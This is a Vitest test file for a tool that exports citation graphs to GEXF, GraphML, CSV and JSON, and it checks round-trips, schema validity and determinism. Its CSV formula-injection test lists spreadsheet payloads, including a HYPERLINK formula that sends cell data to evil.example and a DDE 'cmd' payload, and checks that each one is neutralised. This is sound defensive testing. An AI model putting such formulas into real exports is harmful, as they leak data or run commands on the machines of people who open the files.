import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import Graph from 'graphology';
import { parse as parseGexf } from 'graphology-gexf';
import { parse as parseGraphML } from 'graphology-graphml';
import { parse as parseCsv } from 'csv-parse/sync';
import type { PaperNode } from '../../src/model.ts';
import { toGEXF } from '../../src/export/gexf.ts';
import { toGraphML } from '../../src/export/graphml.ts';
import { EDGE_COLUMNS, NODE_COLUMNS, toEdgesCSV, toNodesCSV } from '../../src/export/csv.ts';
import { GraphJSONError, loadGraphJSON, toGraphJSON } from '../../src/export/json.ts';
import { renderOutputs } from '../../src/export/index.ts';
import { goldGraph } from './helpers.ts';
import { findCheckGexf, isCI, runCheckGexf } from '../helpers/check-gexf.ts';

const { graph, papers, entities } = goldGraph();
const tmp = mkdtempSync(join(tmpdir(), 'pw-exports-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

const CI = isCI();
const PY = '/usr/bin/python3';

/** Debian packages check-gexf needs that this machine lacks. */
function missingPackages(): string[] {
  const missing: string[] = [];
  if (spawnSync('sh', ['-c', 'command -v xmllint'], { stdio: 'ignore' }).status !== 0) missing.push('libxml2-utils (xmllint)');
  if (!existsSync(PY)) missing.push('python3 (/usr/bin/python3)');
  else if (spawnSync(PY, ['-c', 'import networkx'], { stdio: 'ignore' }).status !== 0) missing.push('python3-networkx');
  return missing;
}
const missing = missingPackages();
const toolNote = missing.length ? ` [needs Debian package(s): ${missing.join(', ')}]` : '';
if (missing.length && !CI) console.warn(`exports.test: skipping the networkx/check-gexf checks: install ${missing.join(', ')}`);

describe('GEXF', () => {
  const gexf = toGEXF(graph);

  it('is GEXF 1.3 with the viz namespace, pedantic meta and rgb colours', () => {
    expect(gexf).toContain('<gexf version="1.3" xmlns="http://gexf.net/1.3" xmlns:viz="http://gexf.net/1.3/viz"');
    const meta = gexf.slice(gexf.indexOf('<meta>'), gexf.indexOf('</meta>'));
    expect(meta.match(/<(\w+)>/g)).toEqual(['<meta>', '<creator>', '<description>', '<keywords>']);
    expect(gexf).not.toContain('hex=');
    expect(gexf).not.toMatch(/type="list/);
    expect(gexf).not.toContain('[object Object]');
  });

  it('round-trips through graphology-gexf parse: same nodes, edges and attributes', () => {
    const back = parseGexf(Graph, gexf);
    expect(back.order).toBe(graph.order);
    expect(back.size).toBe(graph.size);
    expect(back.type).toBe('directed');
    graph.forEachNode((key, a) => {
      expect(back.hasNode(key), key).toBe(true);
      const b = back.getNodeAttributes(key);
      expect(b.label).toBe(a.label);
      expect(b.kind).toBe(a.kind);
      expect(b.community).toBe(a.community);
      expect(b.x).toBe(a.x);
      expect(b.y).toBe(a.y);
      expect(b.size).toBe(a.size);
      expect(b.color).toBe(a.color);
      if (a.kind === 'paper') {
        expect(b.title).toBe(a.title);
        expect(b.abstract).toBe(a.abstract);
        expect(b.year).toBe(a.year);
        expect(b.authorsCount).toBe(a.authorsCount);
      } else {
        expect(b.papers).toBe(a.papers);
        expect(b.aliases ?? '').toBe(a.aliases.join('; '));
      }
    });
    graph.forEachEdge((key, a, source, target) => {
      expect(back.hasEdge(key), key).toBe(true);
      expect(back.source(key)).toBe(source);
      expect(back.target(key)).toBe(target);
      const b = back.getEdgeAttributes(key);
      expect(b.relation).toBe(a.relation);
      expect(b.evidence).toBe(a.evidence);
      expect(b.confidence).toBe(a.confidence);
      expect(b.weight).toBe(a.weight ?? 1);
    });
  });

  it('survives hostile text: quotes, ampersands, angle brackets and control characters', () => {
    const g = graph.copy();
    const key = g.findNode((_k, a) => a.kind === 'paper')!;
    g.mergeNodeAttributes(key, { title: 'A "quoted" <b>title</b> & \'more\'\u0007', abstract: 'x\u0000y' } as Partial<PaperNode>);
    const back = parseGexf(Graph, toGEXF(g));
    expect(back.getNodeAttribute(key, 'title')).toBe('A "quoted" <b>title</b> & \'more\'\uFFFD');
    expect(back.getNodeAttribute(key, 'abstract')).toBe('x\uFFFDy');
  });

  it.skipIf(missing.length > 0 && !CI)(`passes check-gexf --require-viz (schema, networkx, igraph)${toolNote}`, (ctx) => {
    if (missing.length) throw new Error(`check-gexf needs the Debian package(s) ${missing.join(', ')}: apt-get install them (.ci/run does)`);
    // (found as every test finds it: $CHECK_GEXF, ../shared/tools beside the repository, the workplace's copy; a
    // fresh clone elsewhere passed this test without running the checker, with a warning only)
    const check = findCheckGexf();
    if (!check.path) {
      if (CI) throw new Error(`check-gexf not found: ${check.missing}`);
      // a skip, reported as one (it returned, and the test counted as passed without running the checker)
      return ctx.skip(`exports.test: ${check.missing}; check-gexf not run`);
    }
    const file = join(tmp, 'graph.gexf');
    writeFileSync(file, gexf);
    const r = runCheckGexf(check.path, [file]);
    expect(r.status, r.output).toBe(0);
    expect(r.output).toContain(`nodes: ${graph.order}, edges: ${graph.size}`);
    expect(r.output).toContain('RESULT: PASS');
  });
});

describe('GraphML', () => {
  const graphml = toGraphML(graph);

  it('parses back with graphology-graphml: same nodes, edges and typed attributes', () => {
    const back = parseGraphML(Graph, graphml);
    expect(back.order).toBe(graph.order);
    expect(back.size).toBe(graph.size);
    const key = `paper:${papers[0].id}`;
    expect(back.getNodeAttribute(key, 'title')).toBe(papers[0].title);
    expect(back.getNodeAttribute(key, 'community')).toBe(graph.getNodeAttribute(key, 'community'));
    // An edge's key is its `id` data (not an id attribute: `paper:x>dataset:y` is no xs:NMTOKEN).
    const e = graph.edges()[0];
    const b = back.findEdge((_k, a) => a.id === e)!;
    expect(b).toBeDefined();
    expect(back.getEdgeAttribute(b, 'evidence')).toBe(graph.getEdgeAttribute(e, 'evidence'));
  });

  it('writes only ids GraphML\'s schema allows (xs:NMTOKEN); a graph name with a space is escaped, not written as is', () => {
    const NMTOKEN = /^[\p{L}\p{N}\p{M}._:-]+$/u;
    const ids = [...graphml.matchAll(/<(?:graph|node|edge)\b[^>]*?\sid="([^"]*)"/g)].map((m) => m[1]);
    expect(ids.length).toBe(graph.order + 1);
    for (const id of ids) expect(id, id).toMatch(NMTOKEN);
    for (const m of graphml.matchAll(/\s(?:source|target)="([^"]*)"/g)) expect(m[1], m[1]).toMatch(NMTOKEN);
    const named = graph.copy();
    named.setAttribute('name', 'my survey (v2)');
    expect(toGraphML(named)).toContain('<graph id="my_x0020_survey_x0020__x0028_v2_x0029_" edgedefault="directed">');
  });

  it.skipIf(missing.length > 0 && !CI)(`loads in networkx${toolNote}`, () => {
    if (missing.length) throw new Error(`needs the Debian package(s) ${missing.join(', ')}`);
    const file = join(tmp, 'graph.graphml');
    writeFileSync(file, graphml);
    const out = execFileSync(PY, ['-c', [
      'import sys, json, networkx as nx',
      'g = nx.read_graphml(sys.argv[1])',
      'n = next(k for k in g.nodes if k.startswith("paper:"))',
      'e = next(iter(g.edges(data=True)))',
      'print(json.dumps([g.number_of_nodes(), g.number_of_edges(), g.is_directed(), type(g.nodes[n]["year"]).__name__, type(g.nodes[n]["x"]).__name__, e[2]["id"] == e[0] + ">" + e[1]]))',
    ].join('\n'), file], { encoding: 'utf8' });
    expect(JSON.parse(out)).toEqual([graph.order, graph.size, true, 'int', 'float', true]);
  });
});

describe('CSV', () => {
  it('has one header row, every field quoted, and the evidence on each edge', () => {
    const nodes = toNodesCSV(graph);
    const edges = toEdgesCSV(graph);
    // every field of every row quoted, rows ended by CRLF (it looked at the first character of 50 lines)
    const QUOTED_ROWS = /^(?:"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*\r\n)+$/;
    for (const text of [nodes, edges]) expect(QUOTED_ROWS.test(text)).toBe(true);
    const n = parseCsv(nodes, { columns: true }) as Record<string, string>[];
    const e = parseCsv(edges, { columns: true }) as Record<string, string>[];
    expect(Object.keys(n[0])).toEqual([...NODE_COLUMNS]);
    expect(Object.keys(e[0])).toEqual([...EDGE_COLUMNS]);
    expect(n.length).toBe(graph.order);
    expect(e.length).toBe(graph.size);
    for (const row of e) {
      expect(row.evidence.length).toBeGreaterThan(0);
      expect(graph.getEdgeAttribute(row.id, 'evidence')).toBe(row.evidence);
    }
    const p = n.find((r) => r.kind === 'paper')!;
    expect(p.abstract).toBe(graph.getNodeAttribute(p.id, 'abstract' as never));
  });

  it("carries a paper's DOI and url, as graph.json, GEXF and GraphML do (nodes.csv had no doi column)", () => {
    const g = graph.copy();
    const key = g.findNode((_k, a) => a.kind === 'paper')!;
    g.mergeNodeAttributes(key, { doi: '10.1109/CVPR52688.2022.01392', url: 'https://arxiv.org/abs/2106.08265' } as never);
    const n = parseCsv(toNodesCSV(g), { columns: true }) as Record<string, string>[];
    const row = n.find((r) => r.id === key)!;
    expect([row.doi, row.url]).toEqual(['10.1109/CVPR52688.2022.01392', 'https://arxiv.org/abs/2106.08265']);
    expect(toGEXF(g)).toContain('value="10.1109/CVPR52688.2022.01392"');
  });
});

describe('CSV formula injection', () => {
  const evil = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd', '@SUM(1+1)', '\t=1+1', '\r=1+1'];

  it('writes a text cell that starts with = + - @, tab or CR with a leading \' (OWASP), in nodes.csv and edges.csv', () => {
    const g = graph.copy();
    const papers = g.filterNodes((_k, a) => a.kind === 'paper');
    const edges = g.edges();
    evil.forEach((text, i) => {
      g.mergeNodeAttributes(papers[i]!, { title: text, label: text, abstract: text } as never);
      g.setEdgeAttribute(edges[i]!, 'evidence', text);
    });
    const n = parseCsv(toNodesCSV(g), { columns: true }) as Record<string, string>[];
    const e = parseCsv(toEdgesCSV(g), { columns: true }) as Record<string, string>[];
    evil.forEach((text, i) => {
      const row = n.find((r) => r.id === papers[i])!;
      expect([row.label, row.abstract]).toEqual([`'${text}`, `'${text}`]);
      expect(e.find((r) => r.id === edges[i])!.evidence).toBe(`'${text}`);
    });
    for (const row of [...n, ...e]) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?![\d.])/);
  });

  it('leaves numbers as they are: negative coordinates, years, counts, and text that is only a number', () => {
    const g = graph.copy();
    const key = g.findNode((_k, a) => a.kind === 'paper')!;
    g.mergeNodeAttributes(key, { x: -0.5, y: -12, year: 2024, label: '-0.5', abstract: '+3' } as never);
    const row = (parseCsv(toNodesCSV(g), { columns: true }) as Record<string, string>[]).find((r) => r.id === key)!;
    expect([row.x, row.y, row.year, row.label, row.abstract]).toEqual(['-0.5', '-12', '2024', '-0.5', '+3']);
    const negatives = (parseCsv(toNodesCSV(graph), { columns: true }) as Record<string, string>[]).filter((r) => r.x.startsWith('-'));
    expect(negatives.length).toBeGreaterThan(0);
    for (const r of negatives) expect(Number(r.x)).toBe(graph.getNodeAttribute(r.id, 'x'));
  });
});

describe('graph.json', () => {
  it('loads back to the same graph, clusters included', () => {
    const text = toGraphJSON(graph);
    const back = loadGraphJSON(text);
    expect(toGraphJSON(back)).toBe(text);
    expect(back.getAttribute('clusters')).toEqual(graph.getAttribute('clusters'));
  });

  it('refuses a file that is not a paperweave graph, saying what is wrong', () => {
    const good = JSON.parse(toGraphJSON(graph));
    expect(() => loadGraphJSON('{oops')).toThrow(GraphJSONError);
    expect(() => loadGraphJSON('[]')).toThrow(/expected an object/);
    expect(() => loadGraphJSON({ nodes: [] })).toThrow(/no 'edges' array/);
    const badKind = structuredClone(good);
    badKind.nodes[0].attributes.kind = 'person';
    expect(() => loadGraphJSON(badKind)).toThrow(/kind 'person'/);
    const dangling = structuredClone(good);
    dangling.edges[0].target = 'method:nowhere';
    expect(() => loadGraphJSON(dangling)).toThrow(/nowhere/);
    const noRel = structuredClone(good);
    delete noRel.edges[0].attributes.relation;
    expect(() => loadGraphJSON(noRel)).toThrow(/no known relation/);
  });
});

describe('determinism', () => {
  it('two builds of the same input give byte-identical files', () => {
    const again = goldGraph();
    const a = renderOutputs(graph, papers, entities);
    const b = renderOutputs(again.graph, again.papers, again.entities);
    expect(a.map((f) => f.name)).toEqual(['papers.jsonl', 'entities.jsonl', 'graph.json', 'graph.gexf', 'graph.graphml', 'nodes.csv', 'edges.csv', 'graph.vosviewer.json', 'vosviewer-map.txt', 'vosviewer-network.txt']);
    for (let i = 0; i < a.length; i++) expect(b[i].content === a[i].content, a[i].name).toBe(true);
  });

  it('another seed moves the nodes', () => {
    const other = goldGraph(7).graph;
    const key = graph.nodes()[0];
    expect([other.getNodeAttribute(key, 'x'), other.getNodeAttribute(key, 'y')]).not.toEqual([graph.getNodeAttribute(key, 'x'), graph.getNodeAttribute(key, 'y')]);
  });
});
